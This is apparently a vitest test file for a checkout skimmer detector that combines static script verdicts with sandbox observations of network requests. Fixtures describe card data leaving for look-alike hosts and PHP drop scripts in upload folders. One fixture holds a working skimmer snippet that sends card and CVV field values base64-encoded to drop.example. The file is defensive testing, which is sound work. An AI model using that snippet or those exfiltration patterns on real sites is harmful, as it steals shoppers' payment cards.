import { describe, expect, it } from 'vitest'
import type { Observation, ObservedRequest, ScriptVerdict } from '../../core/types.ts'
import { analyzeScript } from '../../detector/index.ts'
import { fuseVerdict } from '../../detector/fuse.ts'

// Fusion as data: a static verdict and what the chamber saw, the verdict that must come out.

const clean: ScriptVerdict = {
  sha256: 'x'.repeat(64),
  verdict: 'clean',
  score: 0,
  findings: [],
  rulesVersion: 't',
}

function obs(requests: Partial<ObservedRequest>[], extra: Partial<Observation> = {}): Observation {
  return {
    sha256: clean.sha256,
    chamberVersion: 't',
    status: 'ok',
    reason: null,
    pages: ['https://shop.example/checkout/'],
    reads: [],
    listeners: [],
    requests: requests.map((r) => ({
      url: 'https://shop.example/',
      method: 'GET',
      type: 'image',
      body: null,
      carriesCard: false,
      carriesPersonal: false,
      encodings: [],
      ...r,
    })),
    injected: [],
    compiled: [],
    storage: [],
    probes: [],
    ...extra,
  }
}

const inspect = (code: string): ScriptVerdict => analyzeScript(code, { url: null })

const CASES: { name: string; o: Observation; verdict: string; rule?: string }[] = [
  {
    name: 'the card leaving for another host through a CSS url() is malicious',
    o: obs([
      {
        url: 'https://fonts-cdn.example/x.css?d=NDEx',
        type: 'css',
        carriesCard: true,
        encodings: ['base64'],
      },
    ]),
    verdict: 'malicious',
    rule: 'observed-card-exfil',
  },
  {
    name: 'the card posted to the shop itself is not exfiltration',
    o: obs([{ url: 'https://shop.example/api/checkout', type: 'fetch', carriesCard: true }]),
    verdict: 'clean',
  },
  {
    name: "on checkouts served at a shop's own origin, the card posted to that shop's site stays there",
    o: obs([{ url: 'https://kites.co.uk/rest/V1/orders', type: 'fetch', carriesCard: true }], {
      pages: ['https://www.kites.co.uk/checkout/#payment'],
    }),
    verdict: 'clean',
  },
  {
    name: "on checkouts served at a shop's own origin, the chamber's usual site is another host",
    o: obs([{ url: 'https://shop.example/c', type: 'beacon', carriesCard: true }], {
      pages: ['https://www.kites.co.uk/checkout/#payment'],
    }),
    verdict: 'malicious',
    rule: 'observed-card-exfil',
  },
  {
    name: 'on a shared platform, another shop of the platform is another host',
    o: obs([{ url: 'https://collector.myshopify.com/c', type: 'image', carriesCard: true }], {
      pages: ['https://kites.myshopify.com/checkout/'],
    }),
    verdict: 'malicious',
    rule: 'observed-card-exfil',
  },
  {
    name: "a look-alike of the shop's site is another host",
    o: obs(
      [{ url: 'https://kites.co.uk.cdn-assets.example/c', type: 'image', carriesCard: true }],
      {
        pages: ['https://www.kites.co.uk/checkout/'],
      },
    ),
    verdict: 'malicious',
    rule: 'observed-card-exfil',
  },
  {
    name: "the card posted to a server script among the shop's static files is malicious",
    o: obs([
      {
        url: 'https://shop.example/pub/media/catalog/tmp/.thumbs.php',
        method: 'POST',
        type: 'xhr',
        carriesCard: true,
        encodings: ['base64'],
      },
    ]),
    verdict: 'malicious',
    rule: 'observed-drop-in-static-folder',
  },
  {
    name: "after a card read, a ciphertext-like payload to an upload folder's script is suspicious",
    o: obs(
      [
        {
          url: 'https://shop.example/wp-content/uploads/2024/cache.php',
          method: 'POST',
          type: 'xhr',
          body: `d=${'Zx8/Pq2+Lm0k'.repeat(6)}`,
        },
      ],
      { reads: [{ field: 'cc_number', how: 'value' }] },
    ),
    verdict: 'suspicious',
    rule: 'observed-drop-in-static-folder',
  },
  {
    name: "a readable request to the shop's own media script after no card read stays clean",
    o: obs([{ url: 'https://shop.example/media/resize.php?w=200', type: 'image' }]),
    verdict: 'clean',
  },
  {
    name: 'the card sent to a listed processor is normal',
    o: obs([{ url: 'https://api.stripe.com/v1/tokens', type: 'xhr', carriesCard: true }]),
    verdict: 'clean',
  },
  {
    name: 'the card sent to a lookalike of a processor is malicious',
    o: obs([{ url: 'https://api.stripe-cdn.example/v1/t', type: 'xhr', carriesCard: true }]),
    verdict: 'malicious',
    rule: 'observed-card-exfil',
  },
  {
    name: 'personal data to another host is suspicious',
    o: obs([{ url: 'https://collect.example/p', type: 'beacon', carriesPersonal: true }]),
    verdict: 'suspicious',
    rule: 'observed-personal-exfil',
  },
  {
    name: 'after a card read, a ciphertext-like payload to another host is suspicious',
    o: obs(
      [
        {
          url: 'https://metrics-edge.example/v',
          method: 'POST',
          type: 'beacon',
          body: `{"p":"${'q9Zk3/Xw+Lm0'.repeat(6)}"}`,
        },
      ],
      { reads: [{ field: 'cc_number', how: 'value' }] },
    ),
    verdict: 'suspicious',
    rule: 'observed-read-and-send',
  },
  {
    name: 'after a card read, readable events without the card (masked replay) stay clean',
    o: obs(
      [
        {
          url: 'https://ingest.replay.example/e?s=12',
          method: 'POST',
          type: 'beacon',
          body: '[{"t":"input","id":4,"v":"•••"},{"t":"input","id":5,"v":"*** ***"}]',
        },
      ],
      { reads: [{ field: 'cc_number', how: 'value' }] },
    ),
    verdict: 'clean',
  },
  {
    name: 'after a card read, a binary body the chamber could not read is suspicious',
    o: obs([{ url: 'https://x.example/u', method: 'POST', type: 'fetch', body: null }], {
      reads: [{ field: 'cc_number', how: 'value' }],
    }),
    verdict: 'suspicious',
    rule: 'observed-read-and-send',
  },
  {
    name: 'a request carrying nothing after no card read stays clean',
    o: obs([{ url: 'https://cdn.example/lib.js', type: 'script' }]),
    verdict: 'clean',
  },
  {
    name: 'code compiled at run time is judged as a layer',
    o: obs([], {
      compiled: [
        {
          how: 'eval',
          source:
            "var f=document.querySelectorAll('input[name*=card],input[name*=cvv]');var d=[];for(var i=0;i<f.length;i++)d.push(f[i].value);new Image().src='https://drop.example/c?d='+btoa(d.join('|'))",
        },
      ],
    }),
    verdict: 'malicious',
  },
]

const suspicious: ScriptVerdict = {
  ...clean,
  verdict: 'suspicious',
  score: 40,
  findings: [
    {
      rule: 'keylogger-on-inputs',
      severity: 'medium',
      message: 'm',
      line: 1,
      column: 0,
      points: 40,
    },
  ],
}
const read = { reads: [{ field: 'cc_number', how: 'value' }] }

describe('a statically suspicious script seen doing nothing off-site', () => {
  it('is cleared, its static evidence kept', () => {
    const v = fuseVerdict(
      suspicious,
      obs([{ url: 'https://shop.example/save', type: 'fetch' }], read),
      inspect,
    )
    expect(v.verdict).toBe('clean')
    expect(v.findings.map((f) => f.rule)).toEqual(
      expect.arrayContaining(['keylogger-on-inputs', 'observed-inert']),
    )
  })
  it('stays suspicious when it sent anything off-site', () => {
    const v = fuseVerdict(
      suspicious,
      obs([{ url: 'https://other.example/x', type: 'image' }], read),
      inspect,
    )
    expect(v.verdict).not.toBe('clean')
  })
  it('stays suspicious when it probed for analysis or never touched a field', () => {
    expect(
      fuseVerdict(suspicious, obs([], { ...read, probes: ['navigator.webdriver'] }), inspect)
        .verdict,
    ).not.toBe('clean')
    expect(fuseVerdict(suspicious, obs([]), inspect).verdict).toBe('suspicious')
  })
})

describe('fusion of static verdict and observation', () => {
  const replay: ScriptVerdict = {
    ...clean,
    verdict: 'suspicious',
    score: 30,
    findings: [
      {
        rule: 'card-field-read-and-send',
        severity: 'low',
        message: 'masks',
        line: 1,
        column: 0,
        points: 10,
      },
      {
        rule: 'once-only-staging',
        severity: 'low',
        message: 'flag',
        line: 2,
        column: 0,
        points: 10,
      },
      {
        rule: 'exfil-sink-serialised-data',
        severity: 'low',
        message: 'json',
        line: 3,
        column: 0,
        points: 10,
      },
      {
        rule: 'masks-field-values',
        severity: 'info',
        message: 'masks',
        line: 1,
        column: 0,
        points: 0,
      },
    ],
  }
  const events = {
    url: 'https://ingest.replay.example/e',
    method: 'POST',
    type: 'beacon' as const,
    body: '[{"t":"input","v":"•••"}]',
  }
  it('a masking script seen sending only readable events without the card is cleared', () => {
    const v = fuseVerdict(replay, obs([events], read), inspect)
    expect(v.verdict).toBe('clean')
    expect(v.findings.map((f) => f.rule)).toContain('observed-inert')
  })
  it('a long element id in the recorded events is no opaque payload', () => {
    const ids = {
      ...events,
      body: '[{"t":"focus","id":"payment_method_authorize_net_cim_credit_card"}]',
    }
    expect(fuseVerdict(replay, obs([ids], read), inspect).verdict).toBe('clean')
  })
  it('a masking script is not cleared when the card, or an opaque payload, leaves', () => {
    for (const r of [
      { ...events, carriesCard: true },
      { ...events, body: 'Zm9v'.repeat(12) },
    ])
      expect(fuseVerdict(replay, obs([r], read), inspect).verdict).not.toBe('clean')
    const unmasked = { ...replay, findings: replay.findings.slice(0, 3) }
    expect(fuseVerdict(unmasked, obs([events], read), inspect).verdict).toBe('suspicious')
  })

  for (const c of CASES)
    it(c.name, () => {
      const v = fuseVerdict(clean, c.o, inspect)
      expect(v.verdict).toBe(c.verdict)
      if (c.rule) expect(v.findings.map((f) => f.rule)).toContain(c.rule)
      for (const f of v.findings) expect(f.message.length).toBeGreaterThan(0)
    })
})

describe('probes seen by the chamber and by the static side', () => {
  const probing = obs([], { probes: ['navigator.webdriver'] })
  const points = (v: ScriptVerdict): number | undefined =>
    v.findings.find((f) => f.rule === 'observed-anti-analysis')?.points
  it('count once the code itself was found probing', () => {
    const staticProbe: ScriptVerdict = {
      ...clean,
      score: 10,
      findings: [
        {
          rule: 'anti-analysis',
          severity: 'medium',
          message: 'checks navigator.webdriver',
          points: 10,
          line: 1,
          column: 0,
        },
      ],
    }
    const v = fuseVerdict(staticProbe, probing, inspect)
    expect(points(v)).toBe(0)
    expect(v.score).toBe(10)
  })
  it('count when only the chamber saw them', () => {
    expect(points(fuseVerdict(clean, probing, inspect))).toBeGreaterThan(0)
  })
})

describe('data kept on the shop for someone who can read its server', () => {
  const cases: [string, string, string][] = [
    [
      'form data sent to a script dropped among static files',
      'drop-in-static-folder',
      '/pub/media/.c.php',
    ],
    [
      "card values stashed base64 on the shop's own endpoint",
      'card-stash-on-site',
      '/wp-admin/admin-ajax.php',
    ],
  ]
  for (const [what, rule, path] of cases)
    it(`${what} is not cleared by a visit in which nothing left the site`, () => {
      const kept: ScriptVerdict = {
        ...suspicious,
        score: 45,
        findings: [{ rule, severity: 'high', message: 'm', line: 1, column: 0, points: 45 }],
      }
      const v = fuseVerdict(
        kept,
        obs([{ url: `https://shop.example${path}`, type: 'xhr' }], read),
        inspect,
      )
      expect(v.verdict).toBe('suspicious')
      expect(v.findings.map((f) => f.rule)).not.toContain('observed-inert')
    })
})

describe('who a script talks to, which a quiet run does not disprove', () => {
  for (const rule of ['lookalike-domain', 'known-bad-signature'])
    it(`${rule} keeps a script suspicious after a run in which nothing left the site`, () => {
      const kept: ScriptVerdict = {
        ...suspicious,
        score: 50,
        findings: [
          { rule, severity: 'high', message: 'm', line: 1, column: 0, points: 25 },
          {
            rule: 'checkout-url-gating',
            severity: 'medium',
            message: 'm',
            line: 1,
            column: 0,
            points: 25,
          },
        ],
      }
      const v = fuseVerdict(kept, obs([], read), inspect)
      expect(v.verdict).toBe('suspicious')
      expect(v.findings.map((f) => f.rule)).not.toContain('observed-inert')
    })
  it('a gate alone is cleared by the same run', () => {
    const gated: ScriptVerdict = {
      ...suspicious,
      score: 50,
      findings: [
        {
          rule: 'checkout-url-gating',
          severity: 'medium',
          message: 'm',
          line: 1,
          column: 0,
          points: 50,
        },
      ],
    }
    expect(fuseVerdict(gated, obs([], read), inspect).verdict).toBe('clean')
  })
})
